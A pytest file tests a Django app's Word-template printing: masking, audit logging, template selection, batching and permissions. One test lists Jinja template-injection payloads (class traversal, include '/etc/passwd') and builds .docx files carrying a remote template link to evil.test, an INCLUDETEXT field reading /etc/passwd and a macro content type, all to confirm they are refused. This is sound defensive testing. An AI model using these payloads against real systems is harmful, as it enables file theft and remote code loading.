"""Word from a bureau's own template: what may stand in it, what is refused, what comes out (X.11, MLPS.12)."""

import io
import zipfile
from collections.abc import Callable
from datetime import date, timedelta
from typing import Any

import pytest
from django.test import Client
from docx import Document

from anlan.engines.audit.api import Actor, AuditEntry, change
from anlan.engines.files.api import attachments_of
from anlan.engines.files.children.plain_jinja import Fields
from anlan.engines.org.api import Role, RolePermission
from anlan.engines.output.word_fields import STEPS
from anlan.engines.output.word_papers import MOST, word_job
from anlan.engines.output.word_templates import WORD, WordTemplate
from anlan.engines.tasks.api import Job
from anlan.kernel import clock
from tests.factories import Tree, a_user, sign_in
from tests.files.making import a_docx, upload
from tests.sample.lamps import Lamp

PAGE = "/word/sample.lamps/"


@pytest.fixture
def writes(keeper: Any) -> None:
    """The keeper of the township looks after its templates."""
    RolePermission.objects.create(role=Role.objects.get(code="lamp_keeper"), permission=WORD)


def send(client: Client, content: bytes, name: str = "灯.docx", day: date | None = None) -> Any:
    said = {"file": upload(name, content), "valid_from": day or clock.today()}
    return client.post(PAGE, said)


def texts(content: bytes) -> str:
    """Everything written in the body of a document, line by line."""
    document = Document(io.BytesIO(content))
    return "\n".join(node.text or "" for node in document.element.body.iter() if node.tag.endswith("}t"))


def repacked(content: bytes, part: str, change_part: Callable[[str], str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            said = old.read(name)
            new.writestr(name, change_part(said.decode()) if name == part else said)
    return buffer.getvalue()


def test_without_a_template_a_record_prints_in_the_layout_it_begins_with(
    mine: Client, lamps: list[Lamp], keeper: Any
) -> None:
    change(Actor.person(keeper), lamps[1], {"place": "<b>西侧</b> & {{ 打印人 }}\x0b"})
    answer = mine.get(f"/sample/lamps/{lamps[1].pk}/word")
    assert answer["Content-Type"].endswith("wordprocessingml.document")
    said = texts(answer.content)
    for words in ("D-1", "<b>西侧</b> & {{ 打印人 }}", "138****0001", "登记", keeper.name):
        assert words in said
    assert "13859700001" not in said
    assert AuditEntry.objects.filter(action="print", object_id=str(lamps[1].pk)).exists()
    assert mine.get(f"/sample/lamps/{lamps[3].pk}/word").status_code == 404
    assert b"/word" in mine.get(f"/sample/lamps/{lamps[1].pk}/").content
    assert "打印成一份 Word" in mine.get("/sample/lamps/").content.decode()


@pytest.mark.usefixtures("writes")
def test_the_template_in_force_is_used_and_many_records_become_one_document(
    mine: Client, lamps: list[Lamp], tree: Tree
) -> None:
    page = mine.get(PAGE).content.decode()
    assert "{{ 保管人姓名 }}" in page
    assert "{{ 步.经办人 }}" in page
    assert send(mine, a_docx("旧版 {{ 编号 }}"), day=clock.today() - timedelta(days=9)).status_code == 303
    own = a_docx("本局 {{ 编号 }} {{ phone }}", "{% if 位置 == '西侧' %}在西{% endif %}")
    assert send(mine, own).status_code == 303
    assert send(mine, a_docx("将来 {{ 编号 }}"), day=clock.today() + timedelta(days=9)).status_code == 303
    answer = mine.post("/sample/lamps/word", {"chosen": [lamps[1].pk, lamps[2].pk]})
    said = texts(answer.content).split("\n")
    assert [words for words in said if words] == ["本局 D-1 138****0001", "在西", "本局 D-2 138****0001"]
    breaks = [
        one.paragraph_format.page_break_before for one in Document(io.BytesIO(answer.content)).paragraphs
    ]
    assert [place for place, broken in enumerate(breaks) if broken] == [2]
    kept = WordTemplate.objects.unscoped().order_by("pk")
    assert [row.org for row in kept] == [tree.township] * 3
    shown = mine.get(PAGE).content.decode()
    assert shown.count("正在使用") == 1
    address = attachments_of(kept[1])[0].address("download")
    assert mine.get(address).status_code == 200
    assert sign_in(Client(), a_user("lamp_keeper", tree.far_school)).get(address).status_code == 404


HOSTILE = {
    "{{ ''.__class__.__mro__ }}": "__class__",
    "{{ 编号.__class__ }}": "编号.__class__",
    "{{ 编号['x'] }}": "编号['x']",
    "{{ range(9) }}": "range(…)",
    "{{ 编号 | attr('x') }}": "编号 | attr",
    "{% for 步 in 办理记录 %}{{ 步.__init__ }}{% endfor %}": "步.__init__",
    "{% include '/etc/passwd' %}": "include",
    "{% set x = 1 %}": "assign",
    "{{ 9**9 }}": "pow",
    "{{ 学校负责人 }}": "学校负责人",
    "{{ 编号": "unexpected",
}


@pytest.mark.usefixtures("writes")
def test_a_wrong_or_hostile_template_is_refused_by_name_and_nothing_is_kept(mine: Client) -> None:
    known = Fields(["编号"], {"办理记录": STEPS})
    for line, named in HOSTILE.items():
        assert any(named in text for _, text in known.faults(f"{{{{ 编号 }}}}{line}")), line
    assert not known.faults(
        "{% if 编号 == '1' %}{% for 步 in 办理记录 %}{{ 步.时间 }}{% endfor %}{% endif %}"
    )
    answer = send(mine, a_docx("{{ ''.__class__ }}", "{{ 学校负责人 }}"))
    page = answer.content.decode()
    assert (answer.status_code, ".__class__" in page, "没有“学校负责人”这个字段" in page) == (422, True, True)
    plain, rels = a_docx("{{ 编号 }}"), "word/_rels/document.xml.rels"
    outside = '<Relationship Id="x" Type="t" Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r>'
    )
    field += (
        '<w:instrText>TEXT "/etc/passwd"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    macro = 'application/vnd.ms-word.document.macroEnabled.main+xml"'
    main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"'
    dangerous = {
        "evil.test": repacked(plain, rels, lambda said: said.replace("</Relationships>", outside)),
        "INCLUDETEXT": repacked(
            plain, "word/document.xml", lambda said: said.replace("<w:body>", f"<w:body>{field}")
        ),
        "有宏": repacked(plain, "[Content_Types].xml", lambda said: said.replace(main, macro)),
    }
    for named, content in dangerous.items():
        answer = send(mine, content)
        assert (answer.status_code, named in answer.content.decode()) == (422, True), named
    assert send(mine, b"text", "a.txt").status_code == 422
    assert not WordTemplate.objects.unscoped().exists()


def test_templates_need_the_right_and_many_records_a_job(
    mine: Client, lamps: list[Lamp], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert mine.get(PAGE).status_code == 403
    assert send(mine, a_docx("{{ 编号 }}")).status_code == 403
    monkeypatch.setattr("anlan.engines.output.word_pages.AT_ONCE", 1)
    assert mine.post("/sample/lamps/word", {"chosen": [lamps[0].pk, lamps[2].pk]}).status_code == 202
    job = Job.objects.get()
    job.state, job.attempt = Job.State.RUNNING, 1
    job.save()
    said = texts(mine.get(word_job(job, **job.values)["url"]).content)
    assert said.index("东侧") < said.index("门厅")
    too_many = [str(number) for number in range(1, MOST + 2)]
    assert mine.post("/sample/lamps/word", {"chosen": too_many}).status_code == 422
